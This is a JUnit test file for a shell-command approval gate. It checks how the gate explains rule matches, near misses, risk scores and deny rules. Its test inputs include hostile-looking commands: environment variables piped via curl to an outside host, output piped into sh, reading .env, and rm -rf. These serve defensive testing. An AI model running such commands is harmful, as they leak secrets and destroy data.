package com.expacti.domain.explain;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.expacti.domain.decision.Assessment;
import com.expacti.domain.decision.Gate;
import com.expacti.domain.decision.Question;
import com.expacti.domain.identity.UserId;
import com.expacti.domain.org.OrgSettings;
import com.expacti.domain.org.OrgView;
import com.expacti.domain.org.ViewBuilder;
import com.expacti.domain.policy.ApprovalPolicy;
import com.expacti.domain.policy.ScopedPolicy;
import com.expacti.domain.risk.RiskLevel;
import com.expacti.domain.rule.Coverage;
import com.expacti.domain.rule.PatternType;
import com.expacti.domain.rule.Rule;
import com.expacti.domain.rule.RuleEffect;
import com.expacti.domain.rule.RuleScope;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.Set;
import org.junit.jupiter.api.Test;

class ExplanationTest {
    private static final Instant NOW = Instant.parse("2026-03-02T10:00:00Z");

    private final ViewBuilder org = new ViewBuilder();

    private Explanation explain(String command) {
        OrgView view = org.build();
        Question question =
                new Question(Gate.parse(command), Optional.of("/srv/a"), Optional.empty(), List.of(), false);
        Assessment assessment = Gate.assess(view, question, NOW);
        return Explanation.of(view, question, assessment, NOW);
    }

    private void allow(String id, String pattern) {
        org.with(rule(id, RuleEffect.ALLOW, pattern, "global", Optional.empty(), Optional.empty()));
    }

    private static Rule rule(
            String id, RuleEffect effect, String pattern, String scope, Optional<String> cwd, Optional<Instant> until) {
        return new Rule(
                id,
                effect,
                PatternType.GLOB,
                pattern,
                RuleScope.parse(scope),
                cwd,
                List.of(),
                OptionalInt.empty(),
                until,
                "",
                "user_a",
                false,
                Set.of());
    }

    private static List<String> reasons(Explanation explanation) {
        return explanation.nearMisses().stream()
                .map(near -> near.ruleId() + ": " + near.reason())
                .toList();
    }

    @Test
    void an_option_that_writes_files_is_named_with_what_it_is_used_for() {
        allow("r", "git log *");

        Explanation explanation = explain("git log --output=/etc/x");

        assertEquals(
                List.of(
                        "r: the word `--output=/etc/x` is an option that `git log` uses to write files; the rule's wildcard does not take it"),
                reasons(explanation));
        assertEquals(
                8,
                explanation
                        .nearMisses()
                        .getFirst()
                        .miss()
                        .orElseThrow()
                        .at()
                        .orElseThrow()
                        .from());
    }

    @Test
    void the_option_that_stopped_a_rule_is_what_to_leave_out() {
        allow("r", "git log *");

        Explanation explanation = explain("git log --output=x main");

        assertEquals(
                List.of("Without `--output=x` the rule `git log *` lets it through."),
                explanation.whatWouldChange().subList(0, 1));
    }

    @Test
    void rules_for_another_scope_time_or_directory_say_so_nearest_first() {
        org.with(rule("cwd", RuleEffect.ALLOW, "git log *", "global", Optional.of("/srv/b"), Optional.empty()));
        org.with(rule(
                "old", RuleEffect.ALLOW, "git log *", "global", Optional.empty(), Optional.of(NOW.minusSeconds(200))));
        org.with(rule("scope", RuleEffect.ALLOW, "git log *", "target:web", Optional.empty(), Optional.empty()));

        assertEquals(
                List.of(
                        "scope: its scope is target:web, this is no target",
                        "old: it expired 3 min ago",
                        "cwd: cwd is /srv/a, the rule wants /srv/b"),
                reasons(explain("git log main")));
    }

    @Test
    void a_command_riskier_than_its_rule_says_both_numbers() {
        allow("r", "git push origin *");

        assertEquals(
                List.of("r: its risk is 45, the rule lets through up to 44"), reasons(explain("git push origin main")));
    }

    @Test
    void the_one_command_without_a_rule_is_named() {
        allow("r", "git status");

        Explanation explanation = explain("git status && npm test");

        assertEquals(
                List.of("A rule `npm test` for the second command would let the whole line through."),
                explanation.whatWouldChange());
        assertEquals(List.of("r"), explanation.parts().getFirst().coveredBy());
        assertEquals(List.of(), explanation.parts().get(1).coveredBy());
    }

    @Test
    void a_redirection_is_what_to_remove_when_the_rest_passes() {
        allow("r", "git status");

        String sentence = explain("git status > out.txt").whatWouldChange().getFirst();

        assertTrue(sentence.startsWith("Without `> out.txt` the rules let the rest through:"), sentence);
    }

    @Test
    void nothing_helps_against_a_deny_rule_and_its_part_is_named() {
        org.with(rule("d", RuleEffect.DENY, "rm *", "global", Optional.empty(), Optional.empty()));

        Explanation explanation = explain("ls; sudo rm x");

        assertEquals(
                List.of(
                        "Nothing: the deny rule `rm *` stops it, for the second command, `sudo rm x`, and a deny rule beats every allow rule."),
                explanation.whatWouldChange());
        assertEquals(List.of(1), explanation.matched().getFirst().parts());
    }

    @Test
    void what_passes_needs_no_change_and_names_its_rules_by_part() {
        allow("a", "git status");
        allow("b", "npm test");

        Explanation explanation = explain("git status && npm test");

        assertEquals(List.of("Nothing has to change: the rules let it through."), explanation.whatWouldChange());
        assertEquals(
                List.of(List.of(0), List.of(1)),
                explanation.matched().stream()
                        .map(Explanation.MatchedRule::parts)
                        .toList());
    }

    @Test
    void text_that_is_no_command_has_no_tree_and_says_where_it_broke() {
        Explanation explanation = explain("echo \"a");

        assertEquals(Optional.empty(), explanation.tree());
        assertTrue(explanation.whatWouldChange().getFirst().startsWith("It can't be read as a command"), "says so");
    }

    @Test
    void a_word_that_only_the_shell_works_out_is_marked() {
        TreeNode tree = explain("rm $X a").tree().orElseThrow();
        TreeNode command = tree.children().getFirst().children().getFirst();

        assertEquals("simple_command", command.kind());
        assertEquals(
                List.of(false, true, false),
                command.children().stream().map(TreeNode::unknown).toList());
    }

    @Test
    void no_rule_is_proposed_for_what_is_high_by_itself() {
        assertEquals(
                List.of(
                        "No rule covers `rm -rf x`, which is HIGH (52) by itself: that is better left to people than to a rule."),
                explain("rm -rf x").whatWouldChange());
    }

    @Test
    void near_misses_and_sentences_are_few() {
        for (int i = 0; i < 50; i++) {
            org.with(rule("r" + i, RuleEffect.ALLOW, "git log *", "target:t" + i, Optional.empty(), Optional.empty()));
        }

        Explanation explanation = explain("git log main");

        assertEquals(Coverage.MISSES_MAX, explanation.nearMisses().size());
        assertTrue(explanation.whatWouldChange().size() <= Remedies.SENTENCES_MAX, "few sentences");
    }

    @Test
    void a_rule_for_another_program_is_no_near_miss() {
        allow("r", "docker logs *");

        assertEquals(List.of(), reasons(explain("git log main")));
    }

    @Test
    void a_hostile_line_is_explained_within_its_limits() {
        allow("r", "git log *");

        Explanation explanation = explain("git log a; ".repeat(200) + "id");

        assertEquals(64, explanation.parts().size());
        assertTrue(explanation.whatWouldChange().size() <= Remedies.SENTENCES_MAX, "few sentences");
    }

    @Test
    void of_several_commands_without_a_rule_three_are_named_and_the_others_counted() {
        assertEquals(
                List.of("No rule covers the first (`ls a`), the second (`ls b`), the third (`ls c`)."),
                explain("ls a; ls b; ls c").whatWouldChange());
        assertEquals(
                List.of("No rule covers the first (`ls a`), the second (`ls b`), the third (`ls c`) and 2 more."),
                explain("ls a; ls b; ls c; ls d; ls e").whatWouldChange());
    }

    @Test
    void a_command_far_behind_is_named_by_its_number() {
        allow("r", "git status");

        assertEquals(
                List.of("A rule `npm test` for the tenth command would let the whole line through."),
                explain("git status; ".repeat(9) + "npm test").whatWouldChange());
        assertEquals(
                List.of("A rule `npm test` for the 11th command would let the whole line through."),
                explain("git status; ".repeat(10) + "npm test").whatWouldChange());
    }

    @Test
    void text_that_breaks_off_is_told_by_the_number_of_its_character_from_one() {
        assertTrue(
                explain("echo \"a").whatWouldChange().getFirst().contains("(near character 6)"),
                explain("echo \"a").whatWouldChange().getFirst());
    }

    @Test
    void no_rule_is_promised_for_a_line_that_its_words_would_not_let_through() {
        allow("r", "git status");

        for (String line : List.of("git status; npm test > out.txt", "git status && npm test | sh")) {
            assertTrue(
                    explain(line).whatWouldChange().stream().noneMatch(sentence -> sentence.startsWith("A rule")),
                    explain(line).whatWouldChange().toString());
        }
    }

    @Test
    void leaving_out_one_of_two_obstacles_lets_nothing_through_yet() {
        allow("r", "git status");

        List<String> sentences = explain("git status > a > b").whatWouldChange();

        assertTrue(
                sentences.getFirst().startsWith("Without `> a` the rules can judge the rest:"), sentences.toString());
        assertTrue(sentences.get(1).startsWith("Without `> b` the rules can judge the rest:"), sentences.toString());
    }

    @Test
    void without_the_one_obstacle_a_line_no_rule_covers_can_only_be_judged() {
        String sentence = explain("git status > out.txt").whatWouldChange().getFirst();

        assertTrue(sentence.startsWith("Without `> out.txt` the rules can judge the rest:"), sentence);
    }

    @Test
    void an_option_is_not_named_as_what_to_leave_out_where_the_rest_does_not_pass() {
        allow("r", "git log *");

        List<String> sentences = explain("git log --output=x --output=y main").whatWouldChange();

        assertTrue(sentences.stream().noneMatch(each -> each.contains("lets it through")), sentences.toString());
    }

    @Test
    void a_line_whose_commands_all_have_rules_but_score_too_much_together_is_told_so() {
        org.with(ceiling("a", "env", 49)).with(ceiling("b", "curl -d @- *", 49));

        Explanation explanation = explain("env | curl -d @- http://x");

        assertEquals(
                List.of(),
                explanation.parts().stream()
                        .filter(part -> part.coveredBy().isEmpty())
                        .toList());
        assertTrue(
                explanation.whatWouldChange().getFirst().startsWith("Rules cover every command by itself; together"),
                explanation.whatWouldChange().toString());
    }

    private static Rule ceiling(String id, String pattern, int most) {
        return new Rule(
                id,
                RuleEffect.ALLOW,
                PatternType.GLOB,
                pattern,
                new RuleScope.Global(),
                Optional.empty(),
                List.of(),
                OptionalInt.of(most),
                Optional.empty(),
                "",
                "user_a",
                false,
                Set.of());
    }

    @Test
    void where_an_org_lets_low_scores_through_the_two_numbers_are_told() {
        org.with(threshold(5));
        int score = Gate.assess(
                        org.build(),
                        new Question(Gate.parse("rm x"), Optional.of("/srv/a"), Optional.empty(), List.of(), false),
                        NOW)
                .risk()
                .score();

        assertTrue(
                explain("rm x")
                        .whatWouldChange()
                        .contains("It scores %d; the organisation lets commands below 5 through.".formatted(score)),
                explain("rm x").whatWouldChange().toString());
        org.with(threshold(score));
        assertEquals(2, explain("rm x").whatWouldChange().size());
        org.with(threshold(score + 1));
        assertEquals(
                List.of(
                        "Nothing has to change: it scores %d, below the %d under which the organisation lets commands through."
                                .formatted(score, score + 1)),
                explain("rm x").whatWouldChange());
    }

    private static OrgSettings threshold(int below) {
        OrgSettings standard = OrgSettings.standard("Test");
        return new OrgSettings(
                "Test",
                standard.timeout(),
                standard.timeoutAction(),
                OptionalInt.empty(),
                OptionalInt.of(below),
                false,
                standard.anomalies(),
                false);
    }

    @Test
    void a_long_text_is_shown_up_to_its_120th_character() {
        String most = "ls " + "x".repeat(117);

        assertTrue(explain(most).whatWouldChange().getFirst().contains("`" + most + "`"), "whole");
        assertTrue(explain(most + "x").whatWouldChange().getFirst().contains("`" + most + "…`"), "cut");
    }

    @Test
    void a_rule_without_the_votes_its_policy_asks_for_is_near_with_that_reason() {
        allow("r", "git status");
        org.with(new ScopedPolicy(
                "pol_1",
                new ApprovalPolicy.MinApprovers(2),
                PatternType.GLOB,
                "git *",
                new RuleScope.Global(),
                RiskLevel.LOW,
                new UserId("user_a"),
                NOW));

        assertEquals(
                List.of("r: it was made without the votes that the command's approval policy asks for"),
                reasons(explain("git status")));
        assertEquals(
                List.of("An exact rule for this very text would let it through."),
                explain("git status").whatWouldChange());
        for (String line : List.of("git status; ls", "git status > out.txt")) {
            assertTrue(
                    reasons(explain(line)).stream().noneMatch(reason -> reason.contains("votes")),
                    reasons(explain(line)).toString());
        }
    }

    @Test
    void a_tree_ends_at_1000_pieces_and_at_a_depth_of_64() {
        TreeNode wide = explain("echo " + "a ".repeat(1_200)).tree().orElseThrow();
        TreeNode deep = explain("( ".repeat(40) + "id" + " )".repeat(40)).tree().orElseThrow();

        assertEquals(TreeNode.NODES_MAX, pieces(wide));
        assertEquals(TreeNode.DEPTH_MAX, depth(deep));
    }

    private static int pieces(TreeNode node) {
        return 1 + node.children().stream().mapToInt(ExplanationTest::pieces).sum();
    }

    private static int depth(TreeNode node) {
        return node.children().stream()
                .mapToInt(child -> 1 + depth(child))
                .max()
                .orElse(0);
    }

    @Test
    void what_is_just_high_by_itself_is_left_to_people_too() {
        assertEquals(
                List.of(
                        "No rule covers `cat .env`, which is HIGH (50) by itself: that is better left to people than to a rule."),
                explain("cat .env").whatWouldChange());
    }

    @Test
    void a_deny_rule_for_a_whole_line_names_no_part_of_it() {
        org.with(new Rule(
                "d",
                RuleEffect.DENY,
                PatternType.EXACT,
                "ls; rm x",
                new RuleScope.Global(),
                Optional.empty(),
                List.of(),
                OptionalInt.empty(),
                Optional.empty(),
                "",
                "user_a",
                false,
                Set.of()));

        assertEquals(
                List.of("Nothing: the deny rule `ls; rm x` stops it, and a deny rule beats every allow rule."),
                explain("ls; rm x").whatWouldChange());
    }

    @Test
    void a_lone_command_beside_its_obstacle_is_not_counted_as_one_without_a_rule() {
        assertEquals(1, explain("git status > out.txt").whatWouldChange().size());
    }

    @Test
    void a_miss_in_one_command_says_where_it_is() {
        org.with(rule("cwd", RuleEffect.ALLOW, "git log *", "global", Optional.of("/srv/b"), Optional.empty()));

        assertTrue(
                explain("git log main").nearMisses().stream()
                        .allMatch(near -> near.miss().isPresent()),
                explain("git log main").nearMisses().toString());
    }
}
